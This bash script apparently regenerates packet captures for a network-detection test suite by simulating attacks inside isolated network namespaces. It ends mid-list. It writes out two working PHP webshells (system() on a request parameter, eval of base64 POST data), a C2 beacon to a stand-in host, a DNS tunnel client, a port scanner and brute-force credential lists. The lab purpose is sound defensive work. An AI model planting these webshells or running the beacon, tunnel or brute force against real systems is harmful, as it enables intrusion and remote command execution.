#!/usr/bin/env bash
# tests/tools/make-detect-captures.sh - regenerate the detection test captures in tests/data/detect/
#
# Real traffic between real clients (dig, curl, ssh, python sockets) and real
# servers (dnsmasq, python http.server, openssl s_server, sshd, a small python
# authoritative DNS server) in five network namespaces:
#
#   hdd-h10 (10.88.0.10) --+
#   hdd-h11 (10.88.0.11) --+-- br-lan 10.88.0.1 [hdd-rtr] 192.0.2.1 ---- 192.0.2.2 [hdd-net]
#   hdd-h20 (10.88.0.20) --+   (agency gateway, capture point)        198.51.100.0/24, 203.0.113.0/24
#     agency portal: sshd, HTTP                                        ("the Internet")
#
# Every capture is taken with tcpdump on br-lan in the router namespace (the
# agency side of its gateway), so the agency hosts' own MAC addresses appear.
# Then the script reads every capture back with tshark, checks the facts the
# tests rely on, and writes tests/data/detect/README.md and the test rule files
# rules/ioc/test.csv and rules/allow/test.csv from what tshark reports.
#
# Usage (as root):  tests/tools/make-detect-captures.sh [--no-install] [OUTDIR]
#   OUTDIR defaults to tests/data/detect next to this script's tests/ folder.
#
# Debian packages this script needs (installed with apt-get when missing):
REQUIRED_PACKAGES=(
  iproute2 ethtool                   # namespaces, veth, bridge, offload switches
  dnsmasq-base dnsutils              # DNS resolver, dig
  curl openssl                       # HTTP/TLS clients, s_server, certificates
  openssh-server openssh-client      # sshd, ssh
  python3                            # HTTP servers, DNS server, scanner, beacon and tunnel clients
  tcpdump                            # capture
  wireshark-common tshark            # capinfos, tshark (read-back and README)
)
set -euo pipefail

SELF_DIR=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
INSTALL=1
OUT=""
for a in "$@"; do
  case "$a" in
    --no-install) INSTALL=0 ;;
    -h|--help) sed -n '2,22p' "$0"; exit 0 ;;
    *) OUT=$a ;;
  esac
done
OUT=${OUT:-$(cd "$SELF_DIR/../data" && pwd)/detect}

[ "$(id -u)" = 0 ] || { echo "make-detect-captures.sh: must run as root (network namespaces, tcpdump)" >&2; exit 1; }

# ---------------------------------------------------------------- packages
missing=()
for p in "${REQUIRED_PACKAGES[@]}"; do
  dpkg-query -W -f='${Status}' "$p" 2>/dev/null | grep -q 'install ok installed' || missing+=("$p")
done
if [ "${#missing[@]}" -gt 0 ]; then
  if [ "$INSTALL" = 1 ]; then
    echo "== installing: ${missing[*]}"
    export DEBIAN_FRONTEND=noninteractive
    apt-get update -qq
    apt-get install -y -qq --no-install-recommends "${missing[@]}" >/dev/null
  else
    echo "make-detect-captures.sh: missing packages: ${missing[*]}" >&2; exit 1
  fi
fi
PY=/usr/bin/python3
DGA_SOURCE=${HD_DGA_CSV:-/work/shared/corpus/ndpi/dga/test_dga.csv}

# ---------------------------------------------------------------- constants
NS_H10=hdd-h10; NS_H11=hdd-h11; NS_H20=hdd-h20; NS_RTR=hdd-rtr; NS_NET=hdd-net
ALL_NS=("$NS_H10" "$NS_H11" "$NS_H20" "$NS_RTR" "$NS_NET")
H10=10.88.0.10; H11=10.88.0.11; H20=10.88.0.20; GW=10.88.0.1
MAC_GW=02:88:00:00:00:01; MAC_H10=02:88:00:00:00:0a; MAC_H11=02:88:00:00:00:0b; MAC_H20=02:88:00:00:00:14
RTR_WAN=192.0.2.1; NET_WAN=192.0.2.2; MAC_RTR_WAN=02:88:ff:00:00:01; MAC_NET_WAN=02:88:ff:00:00:02
# "Internet" addresses (RFC 5737 documentation ranges), all in hdd-net
DNS_IP=198.51.100.53          # the resolver the agency hosts use (dnsmasq)
SCAN_IP=198.51.100.30         # port-scan target
DL_IP=198.51.100.80           # files.dl-lab.example - serves the "malware" download
VENDOR_IP=198.51.100.90       # cdn.vendor-lab.example - allow-listed vendor CDN
C2_IP=203.0.113.66            # update.c2-lab.example - C2 (HTTPS)
PHISH_IP=203.0.113.88         # login-verify.phish-lab.example
STAGE_IP=203.0.113.45         # attacker's staging server with the webshells
ATK_IP=203.0.113.50           # attacker (brute force, webshell upload)
SWEEP_NET=203.0.113; SWEEP_FIRST=100; SWEEP_LAST=139; SWEEP_PORT=445; SWEEP_OPEN=(101 117 133)
SCAN_OPEN=(21 22 25 443 3306 8080)   # plus 80 (the HTTP server listens on every address)
C2_DOMAIN=update.c2-lab.example
PHISH_DOMAIN=login-verify.phish-lab.example
VENDOR_DOMAIN=cdn.vendor-lab.example
DL_DOMAIN=files.dl-lab.example
TUN_DOMAIN=tunnel-lab.example
PORTAL_HOST=congthongtin.tinh.example
UA_C2='Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; hd-c2-lab)'
UA_BROWSER='Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36'
UA_WGET='Wget/1.21.3'
UA_BRUTE='python-requests/2.31.0'
# the "implant": TLS 1.2 only, a short cipher list, no ALPN -> a JA3 unlike any stock client
C2_CIPHERS='ECDHE-RSA-AES256-GCM-SHA384:ECDHE-RSA-AES128-GCM-SHA256:ECDHE-RSA-AES256-SHA:AES256-SHA'
C2_CURVES='X25519:P-256'
BEACONS=10; BEACON_INTERVAL=2.0

WORK=$(mktemp -d /tmp/hd-detect.XXXXXX)
PIDS=()
CAP_PID=""

cleanup() {
  set +e
  [ -n "$CAP_PID" ] && kill -INT "$CAP_PID" 2>/dev/null
  for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null; done
  sleep 0.3
  for ns in "${ALL_NS[@]}"; do
    if ip netns list | grep -qw "$ns"; then
      for p in $(ip netns pids "$ns" 2>/dev/null); do kill -9 "$p" 2>/dev/null; done
      ip netns del "$ns" 2>/dev/null
    fi
  done
  if [ -n "${HD_KEEP_WORK:-}" ]; then echo "work dir kept: $WORK"; else rm -rf "$WORK"; fi
}
trap cleanup EXIT
trap 'exit 130' INT TERM

in_ns() { local ns=$1; shift; ip netns exec "$ns" "$@"; }
h10() { in_ns "$NS_H10" "$@"; }
h11() { in_ns "$NS_H11" "$@"; }
h20() { in_ns "$NS_H20" "$@"; }
rtr() { in_ns "$NS_RTR" "$@"; }
net() { in_ns "$NS_NET" "$@"; }
log() { echo "== $*"; }
gap() { sleep "${1:-0.4}"; }

# bg NS NAME cmd...  - background server ("ip netns exec" execs, so $! is the server's pid)
bg() { local ns=$1 n=$2; shift 2; ip netns exec "$ns" "$@" >"$WORK/$n.log" 2>&1 & PIDS+=($!); }

wait_for() { # wait_for DESCRIPTION cmd... (up to 10 s)
  local what=$1 i; shift
  for i in $(seq 100); do "$@" >/dev/null 2>&1 && return 0; sleep 0.1; done
  echo "make-detect-captures.sh: timed out waiting for $what" >&2; exit 1
}
listening() { in_ns "$1" ss -Hln"$2" "sport = :$3" | grep -q .; }

cap_start() { # cap_start NAME - tcpdump on br-lan in the router namespace
  local name=$1
  : >"$WORK/$name.cap.log"
  ip netns exec "$NS_RTR" tcpdump -Z root -n -s 0 -U --immediate-mode -i br-lan -w "$WORK/$name" 2>"$WORK/$name.cap.log" &
  CAP_PID=$!
  wait_for "tcpdump $name" grep -q 'listening on' "$WORK/$name.cap.log"
  sleep 0.3
}
cap_stop() {
  sleep 0.7
  kill -INT "$CAP_PID"; wait "$CAP_PID" || true; CAP_PID=""
}

# client helpers (output kept in client.log)
q() { local ns=$1; shift; in_ns "$ns" dig +tries=1 +time=2 @"$DNS_IP" "$@" >>"$WORK/client.log" 2>&1 || true; }
web() { local ns=$1; shift; in_ns "$ns" curl -sS -o /dev/null --max-time 5 "$@" >>"$WORK/client.log" 2>&1 || true; }

# ---------------------------------------------------------------- helper programs
write_helpers() {
mkdir -p "$WORK/samples"
# The two webshells: inert text here (nothing runs PHP), real-world shapes.
cat >"$WORK/samples/cmd.php" <<'EOF'
<?php
// wp-content/uploads/2024/09/cmd.php
if(isset($_REQUEST['cmd'])){ echo "<pre>"; system($_REQUEST['cmd']); echo "</pre>"; die; }
?>
EOF
cat >"$WORK/samples/b64.php" <<'EOF'
<?php /* WordPress object cache helper */ @error_reporting(0); @set_time_limit(0);
if(isset($_POST['z0'])){ @eval(base64_decode($_POST['z0'])); exit; }
?>
EOF

cat >"$WORK/detkey.py" <<'EOF'
# Deterministic RSA-2048 test key from a seed, so that the C2 certificate (and
# its SHA-1, which is an indicator) is byte-identical on every run. A lab key:
# never use it for anything else.
import base64, hashlib, sys
seed = sys.argv[1].encode()
ctr = [0]
def rnd(nbits):
    out = b""
    while len(out) * 8 < nbits:
        out += hashlib.sha256(seed + b"/%d" % ctr[0]).digest(); ctr[0] += 1
    return int.from_bytes(out[:nbits // 8], "big")
SMALL = [p for p in range(3, 2000, 2) if all(p % d for d in range(3, int(p ** .5) + 1, 2))]
def probable_prime(n):
    if any(n % p == 0 for p in SMALL):
        return False
    d, s = n - 1, 0
    while d % 2 == 0:
        d //= 2; s += 1
    for _ in range(40):
        x = pow(2 + rnd(1024) % (n - 3), d, n)
        if x in (1, n - 1):
            continue
        for _ in range(s - 1):
            x = pow(x, 2, n)
            if x == n - 1:
                break
        else:
            return False
    return True
def prime(bits, e):
    while True:
        c = rnd(bits) | (3 << (bits - 2)) | 1
        if (c - 1) % e and probable_prime(c):
            return c
e = 65537
p, q = prime(1024, e), prime(1024, e)
if p < q:
    p, q = q, p
n, d = p * q, pow(e, -1, (p - 1) * (q - 1))
def der_len(l):
    if l < 128:
        return bytes([l])
    b = l.to_bytes((l.bit_length() + 7) // 8, "big")
    return bytes([0x80 | len(b)]) + b
def der_int(v):
    b = v.to_bytes(v.bit_length() // 8 + 1, "big")
    return b"\x02" + der_len(len(b)) + b
body = b"".join(der_int(v) for v in (0, n, e, d, p, q, d % (p - 1), d % (q - 1), pow(q, -1, p)))
b64 = base64.b64encode(b"\x30" + der_len(len(body)) + body).decode()
print("-----BEGIN RSA PRIVATE KEY-----")
for i in range(0, len(b64), 64):
    print(b64[i:i + 64])
print("-----END RSA PRIVATE KEY-----")
EOF

cat >"$WORK/payload.py" <<'EOF'
# The "malware" file of download.pcap: 20000 bytes of SHA-256 counter-mode
# output (looks random, identical on every run, harmless).
import hashlib, sys
out = b"".join(hashlib.sha256(b"haidang-detect-download/%d" % i).digest() for i in range(625))
open(sys.argv[1], "wb").write(out[:20000])
EOF

cat >"$WORK/inet_httpd.py" <<'EOF'
# HTTP/1.1 server for the "Internet" side: one process on 0.0.0.0:80, the site
# is chosen by the local address the client connected to.
import gzip, os, socket, sys
from http.server import ThreadingHTTPServer, BaseHTTPRequestHandler

WORK = sys.argv[2]
PAYLOAD = open(os.path.join(WORK, "hoadon-0924.bin"), "rb").read()
SHELLS = {"/tools/cmd.php": open(os.path.join(WORK, "samples", "cmd.php"), "rb").read(),
          "/tools/b64.php": open(os.path.join(WORK, "samples", "b64.php"), "rb").read()}
PHISH = """<!DOCTYPE html><html lang="vi"><head><meta charset="utf-8"><title>Xác thực tài khoản</title></head>
<body><h1>Xác thực tài khoản thư công vụ</h1><form method="post" action="/dang-nhap">
<input name="email"><input name="matkhau" type="password"><button>Đăng nhập</button></form></body></html>
""".encode("utf-8")
MANIFEST = b'{"product":"VendorAV","channel":"stable","version":"24.9.1","files":["core.dat","sig.dat"]}\n'
NOT_FOUND = b"<html><body><h1>404 Not Found</h1></body></html>\n"

class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server_version = "nginx"
    sys_version = ""

    def send(self, code, ctype, body, extra=()):
        self.send_response(code)
        self.send_header("Content-Type", ctype)
        for k, v in extra:
            self.send_header(k, v)
        self.send_header("Content-Length", str(len(body)))
        self._headers_buffer.append(b"\r\n" + body)
        self.flush_headers()

    def do_GET(self):
        local = self.connection.getsockname()[0]
        path = self.path.split("?", 1)[0]
        if local == "203.0.113.88" and path in ("/", "/dang-nhap"):
            return self.send(200, "text/html; charset=utf-8", PHISH)
        if local == "198.51.100.90" and path == "/updates/manifest.json":
            return self.send(200, "application/json", MANIFEST)
        if local == "203.0.113.45" and path in SHELLS:
            return self.send(200, "application/x-httpd-php", SHELLS[path])
        if local == "198.51.100.80" and path == "/files/hoadon-0924.bin":
            return self.send(200, "application/octet-stream", PAYLOAD,
                             [("Content-Disposition", 'attachment; filename="hoadon-0924.bin"')])
        if local == "198.51.100.80" and path == "/gzip/hoadon-0924.bin":
            if "gzip" in (self.headers.get("Accept-Encoding") or ""):
                return self.send(200, "application/octet-stream", gzip.compress(PAYLOAD, 9, mtime=0),
                                 [("Content-Encoding", "gzip")])
            return self.send(200, "application/octet-stream", PAYLOAD)
        if local == "198.51.100.80" and path == "/chunked/hoadon-0924.bin":
            self.send_response(200)
            self.send_header("Content-Type", "application/octet-stream")
            self.send_header("Transfer-Encoding", "chunked")
            self.end_headers()
            for i in range(0, len(PAYLOAD), 4096):
                c = PAYLOAD[i:i + 4096]
                self.wfile.write(b"%x\r\n" % len(c) + c + b"\r\n")
            self.wfile.write(b"0\r\n\r\n")
            return
        self.send(404, "text/html", NOT_FOUND)

    def log_message(self, fmt, *args):
        sys.stderr.write("%s %s\n" % (self.connection.getsockname()[0], fmt % args))

ThreadingHTTPServer.allow_reuse_address = True
ThreadingHTTPServer(("0.0.0.0", int(sys.argv[1])), Handler).serve_forever()
EOF

cat >"$WORK/portal_httpd.py" <<'EOF'
# The agency's web portal on 10.88.0.20:80: a page, a login form that always
# refuses (401) and an upload form that accepts anything (as a vulnerable portal does).
import sys
from http.server import ThreadingHTTPServer, BaseHTTPRequestHandler

INDEX = """<!DOCTYPE html><html lang="vi"><head><meta charset="utf-8"><title>Cổng thông tin điện tử tỉnh</title></head>
<body><h1>Cổng thông tin điện tử tỉnh</h1><a href="/login">Đăng nhập</a></body></html>
""".encode("utf-8")

class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server_version = "Apache/2.4.57 (Debian)"
    sys_version = ""

    def send(self, code, ctype, body):
        self.send_response(code)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        self._headers_buffer.append(b"\r\n" + body)
        self.flush_headers()

    def do_GET(self):
        self.send(200, "text/html; charset=utf-8", INDEX)

    def do_POST(self):
        n = int(self.headers.get("Content-Length") or 0)
        self.rfile.read(n)
        if self.path.startswith("/login"):
            self.send(401, "application/json; charset=utf-8",
                      '{"loi":"Sai tên đăng nhập hoặc mật khẩu"}'.encode("utf-8"))
        elif self.path.startswith("/upload.php"):
            self.send(200, "text/html; charset=utf-8",
                      "<p>Tải lên thành công: /uploads/anh-dai-dien.php</p>\n".encode("utf-8"))
        else:
            self.send(404, "text/html", b"<h1>404</h1>\n")

ThreadingHTTPServer.allow_reuse_address = True
ThreadingHTTPServer((sys.argv[1], int(sys.argv[2])), Handler).serve_forever()
EOF

cat >"$WORK/authdns.py" <<'EOF'
# Minimal authoritative DNS server behind dnsmasq (127.0.0.1:5354 in hdd-net):
# TXT queries under tunnel-lab.example get a TXT answer carrying base32
# "downstream data" (as an iodine/dnscat server would); any other name is
# NXDOMAIN (unregistered, like most DGA names).
import base64, hashlib, socket, struct, sys
ZONE = sys.argv[3].lower().encode()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind((sys.argv[1], int(sys.argv[2])))
while True:
    q, addr = s.recvfrom(4096)
    if len(q) < 12:
        continue
    qid, flags = struct.unpack("!HH", q[:4])
    off, labels = 12, []
    while off < len(q) and q[off]:
        labels.append(q[off + 1:off + 1 + q[off]]); off += 1 + q[off]
    qtype = struct.unpack("!H", q[off + 1:off + 3])[0]
    question = q[12:off + 5]
    name = b".".join(labels).lower()
    rd = flags & 0x0100
    if name == ZONE or name.endswith(b"." + ZONE):
        if qtype == 16:
            data = base64.b32encode(hashlib.sha256(b"down/" + name).digest()[:30]).decode().lower().encode()
            rdata = bytes([len(data)]) + data
            ans = struct.pack("!HHHIH", 0xC00C, 16, 1, 0, len(rdata)) + rdata
            s.sendto(struct.pack("!HHHHHH", qid, 0x8400 | rd, 1, 1, 0, 0) + question + ans, addr)
        else:
            s.sendto(struct.pack("!HHHHHH", qid, 0x8400 | rd, 1, 0, 0, 0) + question, addr)
    else:
        s.sendto(struct.pack("!HHHHHH", qid, 0x8403 | rd, 1, 0, 0, 0) + question, addr)
EOF

cat >"$WORK/listen.py" <<'EOF'
# Accept-and-close TCP listener on ADDR:PORT... (the open ports of scan targets)
import select, socket, sys
socks = []
for spec in sys.argv[1:]:
    a, p = spec.rsplit(":", 1)
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((a, int(p))); s.listen(64); socks.append(s)
while True:
    for s in select.select(socks, [], [])[0]:
        c, _ = s.accept(); c.close()
EOF

cat >"$WORK/beacon.py" <<'EOF'
# The "implant" on 10.88.0.10: every INTERVAL seconds (fixed schedule, so the
# jitter is only process start-up time) resolve the C2 name with dig, then
# fetch /beacon over HTTPS from the address it got.
import subprocess, sys, time
dns, domain, n, interval, ua, ciphers, curves, logf = sys.argv[1:9]
n, interval = int(n), float(interval)
log = open(logf, "a")
t0 = time.monotonic() + 0.2
for i in range(n):
    time.sleep(max(0.0, t0 + i * interval - time.monotonic()))
    ip = subprocess.run(["dig", "+short", "+tries=1", "+time=2", "@" + dns, domain, "A"],
                        capture_output=True, text=True).stdout.split()
    ip = [x for x in ip if x[0].isdigit()]
    if not ip:
        print("beacon %d: no address" % i, file=log); continue
    r = subprocess.run(["curl", "-sS", "-k", "-o", "/dev/null", "-w", "%{http_code}\n", "--max-time", "5",
                        "--tlsv1.2", "--tls-max", "1.2", "--ciphers", ciphers, "--curves", curves, "--no-alpn",
                        "-A", ua, "--resolve", "%s:443:%s" % (domain, ip[0]),
                        "https://%s/beacon" % domain], capture_output=True, text=True)
    print("beacon %d: %s -> %s %s" % (i, domain, ip[0], (r.stdout + r.stderr).strip()), file=log, flush=True)
EOF

cat >"$WORK/scan.py" <<'EOF'
# TCP connect scan of PORTS on one target, then a sweep of one port across many
# addresses (what a worm or an operator with a "nmap -sT" does, without nmap).
import socket, sys, time
mode, target = sys.argv[1], sys.argv[2]
items = [int(x) for x in sys.argv[3].split(",")]
res = []
for it in items:
    addr, port = (target, it) if mode == "ports" else ("%s.%d" % (target, it), int(sys.argv[4]))
    s = socket.socket(); s.settimeout(1.0)
    rc = s.connect_ex((addr, port)); s.close()
    res.append("%s:%d %s" % (addr, port, "open" if rc == 0 else "closed(%d)" % rc))
    time.sleep(0.02)
print("\n".join(res))
EOF

cat >"$WORK/tunnel.py" <<'EOF'
# DNS tunnel client on 10.88.0.11 (iodine/dnscat style): N TXT queries for
# <base32>.<base32>.t.ZONE from ONE UDP socket to the resolver; the upstream
# "data" is SHA-256 counter-mode bytes, so the names are the same every run.
import base64, hashlib, random, socket, struct, sys, time
resolver, zone, n, gap = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
s.connect((resolver, 53))
rng = random.Random(8853)
ok = 0
for i in range(n):
    data = struct.pack("!H", i) + hashlib.sha256(b"up/%d" % i).digest() + hashlib.sha256(b"up2/%d" % i).digest()[:28]
    b32 = base64.b32encode(data).decode().lower().rstrip("=")       # 62 bytes -> 100 chars
    name = "%s.%s.t.%s" % (b32[:50], b32[50:], zone)
    qname = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    qid = rng.randrange(65536)
    s.send(struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + qname + struct.pack("!HH", 16, 1))
    try:
        r = s.recv(4096)
        ok += r[:2] == struct.pack("!H", qid)
    except socket.timeout:
        pass
    time.sleep(gap)
print("tunnel: %d/%d answered" % (ok, n))
EOF

cat >"$WORK/askpass.sh" <<'EOF'
#!/bin/sh
# SSH_ASKPASS helper: answers ssh's password prompt with $HD_PW
printf '%s\n' "$HD_PW"
EOF
chmod +x "$WORK/askpass.sh"
}

# ---------------------------------------------------------------- topology
setup_netns() {
  local ns
  for ns in "${ALL_NS[@]}"; do
    ip netns list | grep -qw "$ns" && { echo "make-detect-captures.sh: namespace $ns exists (stale run?); delete it first: ip netns del $ns" >&2; exit 1; }
  done
  for ns in "${ALL_NS[@]}"; do
    ip netns add "$ns"
    # IPv4 only: no router solicitations, MLD or neighbour discovery in the captures
    in_ns "$ns" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
    in_ns "$ns" ip link set lo up
  done
  rtr sysctl -qw net.ipv4.ip_forward=1
  rtr ip link add br-lan address "$MAC_GW" type bridge forward_delay 0 stp_state 0 mcast_snooping 0
  local h mac ns port
  for h in 10 11 20; do
    case $h in 10) ns=$NS_H10; mac=$MAC_H10 ;; 11) ns=$NS_H11; mac=$MAC_H11 ;; 20) ns=$NS_H20; mac=$MAC_H20 ;; esac
    port=lan$h
    ip link add eth0 netns "$ns" address "$mac" type veth peer name "$port" netns "$NS_RTR"
    in_ns "$ns" ip link set eth0 mtu 1500 up
    rtr ip link set "$port" mtu 1500 master br-lan up
    in_ns "$ns" ethtool -K eth0 tx off rx off tso off gso off gro off >/dev/null 2>&1 || true
    rtr ethtool -K "$port" tx off rx off tso off gso off gro off >/dev/null 2>&1 || true
    in_ns "$ns" ip addr add "10.88.0.$h/24" dev eth0
    in_ns "$ns" ip route add default via "$GW"
    # static neighbours: no ARP in the captures
    in_ns "$ns" ip neigh replace "$GW" lladdr "$MAC_GW" nud permanent dev eth0
    rtr ip neigh replace "10.88.0.$h" lladdr "$mac" nud permanent dev br-lan
  done
  rtr ethtool -K br-lan tx off tso off gso off gro off >/dev/null 2>&1 || true
  rtr ip addr add "$GW/24" dev br-lan
  rtr ip link set br-lan up
  ip link add wan0 netns "$NS_RTR" address "$MAC_RTR_WAN" type veth peer name inet0 netns "$NS_NET" address "$MAC_NET_WAN"
  rtr ip link set wan0 mtu 1500 up; net ip link set inet0 mtu 1500 up
  rtr ethtool -K wan0 tx off rx off tso off gso off gro off >/dev/null 2>&1 || true
  net ethtool -K inet0 tx off rx off tso off gso off gro off >/dev/null 2>&1 || true
  rtr ip addr add "$RTR_WAN/24" dev wan0
  net ip addr add "$NET_WAN/24" dev inet0
  rtr ip neigh replace "$NET_WAN" lladdr "$MAC_NET_WAN" nud permanent dev wan0
  net ip neigh replace "$RTR_WAN" lladdr "$MAC_RTR_WAN" nud permanent dev inet0
  rtr ip route add 198.51.100.0/24 via "$NET_WAN"
  rtr ip route add 203.0.113.0/24 via "$NET_WAN"
  net ip route add 10.88.0.0/16 via "$RTR_WAN"
  local a
  for a in $DNS_IP $SCAN_IP $DL_IP $VENDOR_IP $C2_IP $PHISH_IP $STAGE_IP $ATK_IP; do
    net ip addr add "$a/32" dev lo
  done
  for a in $(seq "$SWEEP_FIRST" "$SWEEP_LAST"); do net ip addr add "$SWEEP_NET.$a/32" dev lo; done
}

make_certs() {
  mkdir -p "$WORK/pki/ca" "$WORK/c2root"
  "$PY" "$WORK/detkey.py" haidang-detect-c2-lab >"$WORK/pki/c2.key"
  : >"$WORK/pki/ca/index.txt"; echo 1001 >"$WORK/pki/ca/serial"
  cat >"$WORK/pki/ca.cnf" <<EOF
[ ca ]
default_ca = lab
[ lab ]
dir = $WORK/pki/ca
database = \$dir/index.txt
serial = \$dir/serial
new_certs_dir = \$dir
default_md = sha256
policy = pol
unique_subject = no
copy_extensions = none
[ pol ]
countryName = optional
organizationName = optional
commonName = supplied
[ req ]
distinguished_name = dn
prompt = no
[ dn ]
[ ext ]
basicConstraints = critical,CA:FALSE
keyUsage = critical,digitalSignature,keyEncipherment
extendedKeyUsage = serverAuth
subjectAltName = DNS:$C2_DOMAIN
EOF
  openssl req -new -key "$WORK/pki/c2.key" -subj "/C=XX/O=Lab Update Service/CN=$C2_DOMAIN" \
    -config "$WORK/pki/ca.cnf" -out "$WORK/pki/c2.csr"
  # fixed serial, dates and key + deterministic RSA PKCS#1 v1.5 signature = the same certificate every run
  openssl ca -batch -selfsign -config "$WORK/pki/ca.cnf" -keyfile "$WORK/pki/c2.key" -in "$WORK/pki/c2.csr" \
    -startdate 20250101000000Z -enddate 20351231235959Z -extensions ext -notext -preserveDN \
    -out "$WORK/pki/c2.crt" >"$WORK/pki/ca.log" 2>&1
  printf 'OK 300 task=none\n' >"$WORK/c2root/beacon"
  ssh-keygen -q -t ed25519 -N '' -C 'congthongtin-portal' -f "$WORK/ssh_host_ed25519_key"
  "$PY" "$WORK/payload.py" "$WORK/hoadon-0924.bin"
}

start_servers() {
  cat >"$WORK/dnsmasq.conf" <<EOF
no-resolv
no-hosts
listen-address=$DNS_IP
bind-interfaces
domain-needed
server=127.0.0.1#5354
host-record=$C2_DOMAIN,$C2_IP,60
host-record=$PHISH_DOMAIN,$PHISH_IP,300
host-record=$VENDOR_DOMAIN,$VENDOR_IP,300
host-record=$DL_DOMAIN,$DL_IP,300
EOF
  bg "$NS_NET" authdns "$PY" "$WORK/authdns.py" 127.0.0.1 5354 "$TUN_DOMAIN"
  bg "$NS_NET" dnsmasq dnsmasq -k -u nobody -g nogroup --conf-file="$WORK/dnsmasq.conf" --log-facility=- --log-queries
  bg "$NS_NET" inet_httpd "$PY" "$WORK/inet_httpd.py" 80 "$WORK"
  bg "$NS_NET" c2tls sh -c "cd '$WORK/c2root' && exec openssl s_server -accept '$C2_IP:443' -quiet -WWW \
      -cert '$WORK/pki/c2.crt' -key '$WORK/pki/c2.key'"
  local specs=() p a
  for p in "${SCAN_OPEN[@]}"; do specs+=("$SCAN_IP:$p"); done
  for a in "${SWEEP_OPEN[@]}"; do specs+=("$SWEEP_NET.$a:$SWEEP_PORT"); done
  bg "$NS_NET" listen "$PY" "$WORK/listen.py" "${specs[@]}"
  # the agency portal
  bg "$NS_H20" portal "$PY" "$WORK/portal_httpd.py" "$H20" 80
  mkdir -p /run/sshd
  cat >"$WORK/sshd_config" <<EOF
Port 22
ListenAddress $H20
HostKey $WORK/ssh_host_ed25519_key
PidFile $WORK/sshd.pid
UsePAM no
StrictModes no
PasswordAuthentication yes
KbdInteractiveAuthentication no
PubkeyAuthentication no
PermitRootLogin no
# nobody may log in: every password attempt fails whatever the password
DenyUsers *
LoginGraceTime 10
MaxStartups 100
KexAlgorithms curve25519-sha256,curve25519-sha256@libssh.org
HostKeyAlgorithms ssh-ed25519
Ciphers aes128-ctr,aes256-ctr,chacha20-poly1305@openssh.com
MACs hmac-sha2-256-etm@openssh.com,hmac-sha2-256
EOF
  bg "$NS_H20" sshd /usr/sbin/sshd -D -e -f "$WORK/sshd_config"
  wait_for "dnsmasq" listening "$NS_NET" u 53
  wait_for "auth dns" listening "$NS_NET" u 5354
  wait_for "internet httpd" listening "$NS_NET" t 80
  wait_for "openssl s_server" listening "$NS_NET" t 443
  wait_for "listeners" listening "$NS_NET" t 3306
  wait_for "portal httpd" listening "$NS_H20" t 80
  wait_for "sshd" listening "$NS_H20" t 22
  # the network works end to end before any capture
  wait_for "routing" h10 dig +short +tries=1 +time=1 @"$DNS_IP" "$C2_DOMAIN"
  sleep 1
}

# ---------------------------------------------------------------- scenarios
scenario_c2-beacon() {
  h10 "$PY" "$WORK/beacon.py" "$DNS_IP" "$C2_DOMAIN" "$BEACONS" "$BEACON_INTERVAL" "$UA_C2" \
      "$C2_CIPHERS" "$C2_CURVES" "$WORK/beacon.log"
}

scenario_two-hosts() {
  local ns
  for ns in "$NS_H10" "$NS_H11"; do
    q "$ns" A "$PHISH_DOMAIN";  gap 0.2
    web "$ns" -A "$UA_BROWSER" --resolve "$PHISH_DOMAIN:80:$PHISH_IP" "http://$PHISH_DOMAIN/dang-nhap"
    gap 1
  done
}

scenario_allowlisted() {
  q "$NS_H10" A "$VENDOR_DOMAIN";  gap 0.2
  web "$NS_H10" -A 'VendorAV-Updater/24.9' --resolve "$VENDOR_DOMAIN:80:$VENDOR_IP" \
      "http://$VENDOR_DOMAIN/updates/manifest.json"
}

scenario_webshell() {
  # an admin workstation fetches two webshells from an attacker's staging server ...
  web "$NS_H10" -A "$UA_WGET" "http://$STAGE_IP/tools/cmd.php";  gap 0.3
  web "$NS_H10" -A "$UA_WGET" "http://$STAGE_IP/tools/b64.php";  gap 0.5
  # ... and an attacker uploads one, disguised as an avatar, to the agency portal
  net curl -sS -o /dev/null --max-time 5 --interface "$ATK_IP" -A "$UA_BROWSER" \
      --resolve "$PORTAL_HOST:80:$H20" -H "Content-Type: multipart/form-data; boundary=$BOUNDARY" \
      --data-binary @"$WORK/upload.body" "http://$PORTAL_HOST/upload.php" >>"$WORK/client.log" 2>&1 || true
}

scenario_download() {
  local ns=$NS_H11 r="$DL_DOMAIN:80:$DL_IP"
  q "$ns" A "$DL_DOMAIN";  gap 0.2
  web "$ns" -A "$UA_BROWSER" --resolve "$r" "http://$DL_DOMAIN/files/hoadon-0924.bin";  gap 0.3
  web "$ns" -A "$UA_BROWSER" --resolve "$r" "http://$DL_DOMAIN/chunked/hoadon-0924.bin";  gap 0.3
  web "$ns" -A "$UA_BROWSER" --resolve "$r" --compressed "http://$DL_DOMAIN/gzip/hoadon-0924.bin"
}

scenario_portscan() {
  h10 "$PY" "$WORK/scan.py" ports "$SCAN_IP" "$SCAN_PORTS" >>"$WORK/scan.log"
  gap 1
  h10 "$PY" "$WORK/scan.py" sweep "$SWEEP_NET" "$(seq -s, "$SWEEP_FIRST" "$SWEEP_LAST")" "$SWEEP_PORT" >>"$WORK/scan.log"
}

BRUTE_CREDS=(root:123456 root:admin admin:admin admin:123456 quantri:quantri@123 administrator:P@ssw0rd
             user:user test:test123 oracle:oracle ubuntu:ubuntu root:root admin:password root:toor
             support:support guest:guest pi:raspberry ftpuser:ftpuser postgres:postgres root:Abc@123
             admin:Admin@2024)
BRUTE_WEB_PW=(123456 admin password 12345678 admin@123 Admin@123 P@ssw0rd qwerty 123456789 abc123
